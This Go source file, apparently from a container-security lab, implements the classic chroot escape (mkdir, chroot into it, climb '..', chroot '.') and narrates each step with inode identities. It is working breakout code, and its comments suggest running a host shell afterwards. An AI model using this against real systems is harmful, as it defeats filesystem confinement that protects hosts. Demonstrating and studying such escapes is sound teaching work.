package chroot

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"

	"github.com/container-labs/lab/internal/kernel"
)

// Inode is the identity of a file: two paths with the same Inode are one file.
type Inode struct {
	Dev uint64 `json:"dev"`
	Ino uint64 `json:"ino"`
}

// String returns "device 254:0, inode 2".
func (i Inode) String() string {
	return fmt.Sprintf("device %d:%d, inode %d", unix.Major(i.Dev), unix.Minor(i.Dev), i.Ino)
}

// Sight is what the escaping process sees after a step.
type Sight struct {
	Step string `json:"step"` // what has just been done, for people
	Root Inode  `json:"root"` // "/"
	Here Inode  `json:"here"` // the current directory
}

// Escaped is the outcome of an [Escape].
type Escaped struct {
	Before, After Inode // of "/"
	Levels        int   // how many times ".." led upwards
}

// Out says whether the root directory after is another one than before.
func (e Escaped) Out() bool { return e.Before != e.After }

// maxLevels bounds the climb: a path is 4096 bytes, so no directory that can be named is deeper than half of it.
const maxLevels = 2048

// hole is the directory that the escape makes in the root and removes at the end.
const hole = "breakout"

// Escape breaks the calling process out of a chroot and tells see (which may be nil) what it sees at each step.
// Afterwards "/" is the top of the mount namespace: list it, or execute a shell of the host.
//
// In a process that was pivoted, and in one that is in no chroot at all, the same calls succeed and lead nowhere:
// [Escaped.Out] is false. That is not an error. Where the root directory cannot be written to, a directory that is there
// serves as well.
//
// Kernel: mkdir(2), chroot(2), chdir(2) "..", chroot(2) ".". Needs CAP_SYS_CHROOT; without it the first chroot says
// EPERM. Every thread of the process moves with it.
func Escape(see func(Sight)) (Escaped, error) {
	e := &escape{see: see, jail: -1}
	defer e.close()
	if err := e.run(); err != nil {
		return Escaped{}, err
	}
	return e.out, nil
}

// EscapeOps lists the calls of an escape that climbs levels times, for showing and for running in a forked child.
// Climbing too often does no harm: above the top is the top.
func EscapeOps(levels int) []kernel.Op {
	ops := []kernel.Op{goHome(), makeHole(), enterHole()}
	for range levels {
		ops = append(ops, climb())
	}
	return append(ops, takeTop())
}

func goHome() kernel.Op { return kernel.Chdir("/").For("start at the root that we are locked in") }

func makeHole() kernel.Op {
	return kernel.Mkdir(hole, 0o700).Ignoring(unix.EEXIST).For("make a directory to go into")
}

func enterHole() kernel.Op {
	return kernel.Chroot(hole).For("move the root below the current directory: now nothing stops \"..\"")
}

func climb() kernel.Op {
	return kernel.Chdir("..").For("climb past the old root: it is not the root any more")
}

func takeTop() kernel.Op {
	return kernel.Chroot(".").For("make the top of the tree the root directory")
}

// escape is one Escape in progress.
type escape struct {
	see  func(Sight)
	out  Escaped
	jail int    // the old root, kept open to clean up in
	hole string // the directory gone into
	made bool   // by us
}

func (e *escape) run() error {
	var err error
	if e.out.Before, err = inode("/"); err != nil {
		return err
	}
	if err := e.do(goHome()); err != nil {
		return err
	}
	if e.jail, err = unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err != nil {
		return fmt.Errorf("keep the old root open: %w", err)
	}
	if err := e.dig(); err != nil {
		return err
	}
	if err := e.do(enterHoleAt(e.hole)); err != nil {
		return errors.Join(err, e.fill())
	}
	if err := e.climbAll(); err != nil {
		return err
	}
	if err := e.do(takeTop()); err != nil {
		return err
	}
	if e.out.After, err = inode("/"); err != nil {
		return err
	}
	return e.fill()
}

func enterHoleAt(dir string) kernel.Op {
	op := kernel.Chroot(dir)
	op.Why = enterHole().Why
	return op
}

// dig makes the directory, or finds one where none can be made.
func (e *escape) dig() error {
	_, err := kernel.Do(kernel.Mkdir(hole, 0o700).For(makeHole().Why))
	e.hole, e.made = hole, err == nil
	switch {
	case err == nil:
		return e.tell("made the directory " + hole)
	case errors.Is(err, unix.EEXIST):
		return e.tell("the directory " + hole + " is there already")
	}
	list, listErr := os.ReadDir("/")
	if listErr != nil {
		return err
	}
	for _, entry := range list {
		if entry.IsDir() {
			e.hole = entry.Name()
			return e.tell("the root cannot be written to: the directory " + e.hole + " will do")
		}
	}
	return err
}

// climbAll goes up until up is where we are.
func (e *escape) climbAll() error {
	here, err := inode(".")
	if err != nil {
		return err
	}
	for e.out.Levels < maxLevels {
		if _, err := kernel.Do(climb()); err != nil {
			return err
		}
		above, err := inode(".")
		if err != nil {
			return err
		}
		if above == here {
			return e.tell(fmt.Sprintf("chdir(\"..\"): nothing above, after %d levels", e.out.Levels))
		}
		here = above
		e.out.Levels++
		if err := e.tell("chdir(\"..\")"); err != nil {
			return err
		}
	}
	return fmt.Errorf("climb out: no top found after %d levels", maxLevels)
}

// fill removes the directory that was made. It lies in the old root, so we go back for a moment.
func (e *escape) fill() error {
	if !e.made {
		return nil
	}
	return kernel.DoAll([]kernel.Op{
		kernel.Fchdir(kernel.FD(e.jail)).For("go back to clean up"),
		kernel.Rmdir(e.hole).For("remove the directory again"),
		kernel.Chdir("/").For("go to the root that we have now"),
	})
}

func (e *escape) do(op kernel.Op) error {
	if _, err := kernel.Do(op); err != nil {
		return err
	}
	return e.tell(op.String())
}

func (e *escape) tell(step string) error {
	if e.see == nil {
		return nil
	}
	s := Sight{Step: step}
	var err error
	if s.Root, err = inode("/"); err == nil {
		s.Here, err = inode(".")
	}
	if err == nil {
		e.see(s)
	}
	return err
}

func (e *escape) close() {
	if e.jail >= 0 {
		_ = unix.Close(e.jail)
	}
}

func inode(path string) (Inode, error) {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return Inode{}, fmt.Errorf("look at %s: %w", path, err)
	}
	return Inode{Dev: uint64(st.Dev), Ino: st.Ino}, nil
}
